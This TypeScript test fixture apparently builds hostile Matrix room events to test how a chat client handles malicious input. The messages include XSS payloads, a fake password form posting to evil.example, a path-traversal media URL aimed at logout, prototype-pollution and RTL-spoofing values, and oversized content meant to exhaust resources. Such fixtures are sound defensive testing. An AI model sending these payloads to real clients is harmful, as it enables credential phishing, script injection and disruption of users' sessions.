/** Events and rooms as nobody should send them: markup that wants to run, floods, wrong shapes, no events at all. */

type Json = Record<string, unknown>;

let events = 0;
const event = (content: unknown, more: Json = {}): Json => ({
  event_id: `$hostile${++events}`,
  type: 'm.room.message',
  sender: '@mallory:evil.example',
  origin_server_ts: 1_700_000_000_000 + events,
  content,
  ...more,
});
const html = (formatted: string, body = 'plain'): Json =>
  event({ msgtype: 'm.text', body, format: 'org.matrix.custom.html', formatted_body: formatted });
const state = (type: string, content: unknown, key = ''): Json => event(content, { type, state_key: key });

const rtl = '\u202egnp.exe\u202c';
const giant = 'Ω'.repeat(100_000);

/** Everything a message can do to a page that trusts it. */
const hostileMessages = (): Json[] => [
  html('<img src=x onerror="window.pwned=1"><script>window.pwned=2</script>'),
  html(
    '<svg><a xlink:href="javascript:window.pwned=3"><text>x</text></a></svg><iframe srcdoc="<script>parent.pwned=4</script>"></iframe>',
  ),
  html(
    '<a href="javascript:window.pwned=5">click me</a> <a href="data:text/html,<script>1</script>">me too</a>',
  ),
  html('<form action="https://evil.example"><input name="password"><button>Sign in</button></form>'),
  html(
    '<style>* { display: none !important }</style><p style="position:fixed;inset:0;z-index:9999">cover</p>',
  ),
  html('<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=6">'),
  html('<b>'.repeat(20_000) + 'deep'),
  html('<br>'.repeat(20_000) + 'tall'),
  html('<p>x</p>'.repeat(20_000)),
  html(`<font data-mx-color="#ffffff" data-mx-bg-color="#ffffff">invisible</font>`),
  html('<span data-mx-spoiler="&lt;img src=x onerror=window.pwned=7&gt;">covered</span>'),
  html(`<a href="https://matrix.to/#/%40mallory%3Aevil.example">${giant}</a>`),
  event({ msgtype: 'm.text', body: '\n'.repeat(30_000) + 'bottom' }),
  event({ msgtype: 'm.text', body: giant }),
  event({ msgtype: 'm.text', body: `file ${rtl} and ${'a\u0300'.repeat(5_000)}` }),
  event({ msgtype: 'm.text', body: '> '.repeat(10_000) + 'quoted' }),
  event({
    msgtype: 'm.image',
    body: 'x.svg',
    url: 'https://evil.example/tracker.svg',
    info: { w: 1e308, h: -5, mimetype: 'image/svg+xml' },
  }),
  event({
    msgtype: 'm.image',
    body: '<b>x</b>',
    url: 'mxc://evil.example/../../../_matrix/client/v3/logout',
    info: 'none',
  }),
  event({
    msgtype: 'm.image',
    body: 'hash',
    info: { w: 1, h: 100_000, 'xyz.amorgan.blurhash': '~'.repeat(60) },
  }),
  event({ msgtype: 'm.video', body: 5, file: { url: 7 } }),
  event({
    msgtype: 'm.audio',
    body: {},
    info: { duration: 'long' },
    'org.matrix.msc1767.audio': { waveform: [{}, 'x'] },
  }),
  event({ msgtype: 'm.file', body: rtl, filename: giant }),
  event({ msgtype: { a: 1 }, body: ['x'] }),
  event({}),
  event({ question: 1, answers: 'none' }, { type: 'org.matrix.msc3381.poll.start' }),
  event(
    {
      'org.matrix.msc3381.poll.start': {
        question: { body: giant },
        answers: Array(500).fill({ id: 'same', body: 'x' }),
        max_selections: 1e9,
      },
    },
    { type: 'org.matrix.msc3381.poll.start' },
  ),
  event({ algorithm: 'm.megolm.v1.aes-sha2', ciphertext: 7 }, { type: 'm.room.encrypted' }),
  event({ algorithm: 'NS.epoch.v1', ciphertext: '!!', kid: [], g: -1 }, { type: 'm.room.encrypted' }),
  event({ 'm.relates_to': { rel_type: 'm.replace', event_id: '$hostile1' }, 'm.new_content': 'x' }),
  event({ 'm.relates_to': { 'm.in_reply_to': { event_id: 5 } }, body: 'reply', msgtype: 'm.text' }),
  ...Array.from({ length: 80 }, (_, n) =>
    event(
      {
        'm.relates_to': {
          rel_type: 'm.annotation',
          event_id: '$hostile1',
          key: `${giant.slice(0, 200)}${n}`,
        },
      },
      { type: 'm.reaction' },
    ),
  ),
  event({ body: 'constructor', msgtype: 'm.text' }, { sender: '__proto__' }),
  event(
    { membership: 'join', displayname: giant, avatar_url: 'javascript:1' },
    { type: 'm.room.member', state_key: '@mallory:evil.example' },
  ),
  event(
    { membership: 'join', displayname: { toString: 1 } },
    { type: 'm.room.member', state_key: '@odd:evil.example' },
  ),
  event(
    { membership: 'join', displayname: `alice${rtl}` },
    { type: 'm.room.member', state_key: '@rtl:evil.example' },
  ),
  // Not events at all.
  5 as unknown as Json,
  null as unknown as Json,
  { type: 'm.room.message' },
  event('a string', {}),
  event({ body: 'no time', msgtype: 'm.text' }, { origin_server_ts: 'yesterday' }),
  event({ body: 'far', msgtype: 'm.text' }, { origin_server_ts: 8.7e15 }),
  event({ body: 'negative', msgtype: 'm.text' }, { origin_server_ts: -1e15 }),
  event({ msgtype: 'm.text', body: 'the last hostile message' }),
];

export const hostileRooms = (): Json => ({
  '!hostile:evil.example': {
    state: {
      events: [
        state('m.room.create', { room_version: '11' }),
        state('m.room.name', { name: `Hostile ${rtl}${giant}` }),
        state('m.room.topic', { topic: giant }),
      ],
    },
    timeline: { events: hostileMessages(), limited: 'maybe', prev_batch: 'p' },
    unread_notifications: { notification_count: 'many', highlight_count: -3 },
    summary: { 'm.heroes': 'nobody', 'm.joined_member_count': 1e300 },
    ephemeral: {
      events: [
        { type: 'm.typing', content: { user_ids: [5, giant] } },
        { type: 'm.receipt', content: { $x: { 'm.read': 'all' } } },
      ],
    },
    account_data: { events: [{ type: 'm.tag', content: { tags: [1, 2] } }, 'x'] },
  },
  '!broken:evil.example': { timeline: 'none', state: 7 },
  '!null:evil.example': null,
  'not a room': { timeline: { events: [event({ body: 'x' })] } },
});
